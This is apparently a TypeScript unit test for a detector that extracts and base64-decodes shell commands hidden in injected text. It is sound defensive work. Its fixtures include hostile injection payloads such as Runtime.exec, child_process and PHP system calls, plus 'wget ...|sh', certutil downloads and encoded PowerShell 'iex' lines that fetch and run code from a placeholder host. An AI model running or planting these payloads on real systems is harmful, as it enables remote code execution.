import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandIn, decodedCommand, innermostCommand, openedCommand } from './command-in-text.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('command-in-text', () => {
  it.each([
    ['x=@java.lang.Runtime@getRuntime().exec("curl http://h.example/a")', 'curl http://h.example/a'],
    ['new java.lang.ProcessBuilder(new String[]{"sh","-c","id"}).start()', 'sh -c id'],
    [
      "process.mainModule.require('child_process').execSync('wget -qO- http://h.example/x|sh')",
      'wget -qO- http://h.example/x|sh',
    ],
    ["<?php system('id; uname -a'); ?>", 'id; uname -a'],
    ['a=1;cd /tmp;wget http://h.example/x.sh;sh x.sh', 'cd /tmp;wget http://h.example/x.sh;sh x.sh'],
    ['id=`curl http://h.example/x`', 'curl http://h.example/x'],
    [
      'x=cmd.exe /c certutil -urlcache -f http://h.example/a a.exe',
      'cmd.exe /c certutil -urlcache -f http://h.example/a a.exe',
    ],
  ])('finds the command in %s', (text, command) => {
    expect(commandIn(text)).toBe(command);
  });
  it.each(['q=how to use curl', 'title=wget', '/docs/powershell', 'agent: curl/8.5.0', 'eval("var x = 1")'])(
    'finds none in %s',
    (text) => {
      expect(commandIn(text)).toBeUndefined();
    },
  );
  it('opens base64, of PowerShell too, and what is hidden in it again', () => {
    const inner = 'curl http://h.example/x|sh';
    expect(innermostCommand(`echo ${base64(inner)}|base64 -d|bash`)).toBe(inner);
    expect(innermostCommand(`bash -c {echo,${base64(inner)}}|{base64,-d}|{bash,-i}`)).toBe(inner);
    const wide = Buffer.from('iex (New-Object Net.WebClient)', 'utf16le').toString('base64');
    expect(innermostCommand(`powershell -nop -enc ${wide}`)).toBe('iex (New-Object Net.WebClient)');
    const twice = `echo ${base64(`echo ${base64(inner)}|base64 -d|sh`)}|base64 -d|sh`;
    expect(openedCommand(twice)).toContain(inner);
  });
  it('opens nothing that holds no text', () => {
    expect(decodedCommand('AAECAwQFBgcICQoL')).toBeUndefined();
  });
  it('ends with any text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (text) => {
        openedCommand(commandIn(`exec("${text}`) ?? text);
      }),
    );
  });
});
